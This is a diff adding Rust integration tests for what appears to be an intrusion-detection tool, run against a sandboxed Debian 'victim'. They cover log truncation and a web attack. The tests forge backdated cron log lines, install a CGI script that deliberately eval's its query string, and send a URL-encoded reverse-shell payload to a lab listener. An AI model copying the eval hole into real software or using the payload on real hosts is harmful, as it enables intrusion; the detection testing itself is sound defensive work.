@@ -255,3 +255,138 @@ fn a_file_taken_out_of_the_journal_is_found_and_a_vacuum_is_not() {
     assert!(lines.iter().any(|line| line.starts_with(kept[2])), "{lines:#?}");
     assert_eq!(grave(&found).len(), 1, "{found:#?}");
 }
+
+/// What cron's jobs leave in the logs, every ten minutes over some hours: the past, for which
+/// nobody can wait.
+fn beats(from: u32, to: u32) -> String {
+    format!(
+        r#"now=$(date +%s)
+        for at in $(seq $((now - {from} * 3600)) 600 $((now - {to} * 3600))); do
+            date -u -d @$at '+%FT%T.000001+00:00'
+        done > /run/range/times
+        user='pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)'
+        awk -v u="$user" '{{ print $1 " victim CRON[" 1000 + NR "]: " u }}' /run/range/times \
+            >> /var/log/auth.log
+        awk '{{ print $1 " victim CRON[" 1000 + NR "]: (root) CMD (true)" }}' /run/range/times \
+            | tee -a /var/log/cron.log >> /var/log/syslog"#
+    )
+}
+
+#[test]
+fn a_log_cut_while_its_daemon_writes_is_found_and_logrotate_is_not() {
+    if !possible() {
+        return;
+    }
+    let victim = Victim::boot(&debian().unwrap()).unwrap();
+    victim
+        .shell(&format!(
+            "kill $(cat /run/rsyslogd.pid) $(cat /run/crond.pid); sleep 0.5
+             rm -f /var/log/*.log /var/log/syslog
+             {}
+             chown root:adm /var/log/auth.log /var/log/cron.log /var/log/syslog
+             rsyslogd; sleep 0.3",
+            beats(72, 12)
+        ))
+        .unwrap();
+    // As the unit's reload does where systemd runs.
+    victim
+        .shell(
+            "logrotate -f /etc/logrotate.d/rsyslog || true
+             kill -HUP $(cat /run/rsyslogd.pid); sleep 0.5
+             test -s /var/log/auth.log.1; test ! -s /var/log/auth.log",
+        )
+        .unwrap();
+    assert_eq!(grave(&findings(&victim)), Vec::<String>::new());
+    victim
+        .shell(&format!(
+            "kill $(cat /run/rsyslogd.pid); sleep 0.5
+             {}
+             for log in auth.log cron.log syslog; do sort -o /var/log/$log /var/log/$log; done
+             rsyslogd; sleep 0.3",
+            beats(11, 0)
+        ))
+        .unwrap();
+    assert_eq!(grave(&findings(&victim)), Vec::<String>::new());
+    victim
+        .shell(
+            ": > /var/log/auth.log
+             echo '@reboot root true' > /etc/cron.d/job
+             rm -f /run/crond.reboot; cron; sleep 2; grep -q CRON /var/log/auth.log",
+        )
+        .unwrap();
+    let found = findings(&victim);
+    let (level, lines) = told(&found, "logs.log-cut", "/var/log/auth.log");
+    assert_eq!(level, "high", "{found:#?}");
+    let after = line_of(&victim, "/var/log/auth.log", "CRON[");
+    assert!(lines.contains(&as_told(&after)), "{after}: {lines:#?}");
+}
+
+/// A weak script behind the web server, and a page. The socket is made where it stays: one that is
+/// moved to another file system is nobody's.
+const WEAK_SITE: &str = r#"
+    mkdir -p /var/www/cgi-bin /var/www/html; echo welcome > /var/www/html/index.html
+    cat > /var/www/cgi-bin/ping.sh <<'END'
+#!/bin/bash
+query=${QUERY_STRING//%20/ }; query=${query//%3B/;}; query=${query//%26/\&}
+printf 'Content-Type: text/plain\r\n\r\n'
+eval "echo ${query#host=}" 2>&1
+END
+    chmod 755 /var/www/cgi-bin/ping.sh
+    cat > /etc/nginx/sites-enabled/default <<'END'
+server {
+    listen 80 default_server;
+    root /var/www/html;
+    location /cgi-bin/ {
+        gzip off; root /var/www;
+        include /etc/nginx/fastcgi_params;
+        fastcgi_param SCRIPT_FILENAME /var/www$fastcgi_script_name;
+        fastcgi_pass unix:/run/fcgiwrap/socket;
+    }
+}
+END
+    install -d -o www-data -g www-data /run/fcgiwrap
+    setsid --fork setpriv --reuid www-data --regid www-data --clear-groups \
+        fcgiwrap -c 2 -s unix:/run/fcgiwrap/socket </dev/null >/dev/null 2>&1
+    for wait in $(seq 50); do test -S /run/fcgiwrap/socket && break; sleep 0.1; done
+    nginx -s reload; sleep 0.5
+"#;
+
+fn ask(target: &str) -> String {
+    format!(
+        "timeout 3 bash -c 'exec 3<>/dev/tcp/10.77.0.2/80; \
+         printf \"GET {} HTTP/1.0\\r\\nHost: victim\\r\\n\\r\\n\" >&3; cat <&3' || true; ",
+        target.replace('%', "%%")
+    )
+}
+
+#[test]
+fn a_shell_started_through_a_weak_script_is_found_by_its_line_and_its_process() {
+    if !possible() {
+        return;
+    }
+    let victim = Victim::boot(&debian().unwrap()).unwrap();
+    victim.shell(WEAK_SITE).unwrap();
+    let visits: String =
+        (0..6).map(|_| ask("/") + &ask("/cgi-bin/ping.sh?host=10.0.0.1")).collect();
+    let visits = victim.on_peer(&visits).unwrap();
+    assert!(visits.out.contains("\n10.0.0.1"), "the script answers: {visits:?}");
+    assert_eq!(grave(&findings(&victim)), Vec::<String>::new());
+
+    let mut listener = victim.spawn_on_peer(&["sink", "4444"]).unwrap();
+    let target =
+        "/cgi-bin/ping.sh?host=x%3B/bin/bash%20-i%20>/dev/tcp/10.77.0.1/4444%200<%261%202>%261";
+    let attack = victim.on_peer(&ask(target)).unwrap();
+    let line = line_of(&victim, "/var/log/nginx/access.log", "/dev/tcp/");
+    let place = line.split_once(' ').unwrap().0;
+    let (document, _) = victim.stanch(&["detect"]).unwrap();
+    let found = document["findings"].as_array().unwrap();
+    let (level, lines) = told(found, "logs.web-attack-that-worked", "/dev/tcp/");
+    assert!(matches!(level.as_str(), "high" | "critical"), "{level}: {found:#?} {attack:?}");
+    assert!(lines.iter().any(|line| line.starts_with(&format!("{place} "))), "{place}: {lines:#?}");
+    let shell = found.iter().any(|one| {
+        one["sign"].as_str().unwrap().starts_with("processes.") && one["level"] == "critical"
+    });
+    assert!(shell, "{found:#?}");
+    listener.kill().unwrap();
+    listener.wait().unwrap();
+}
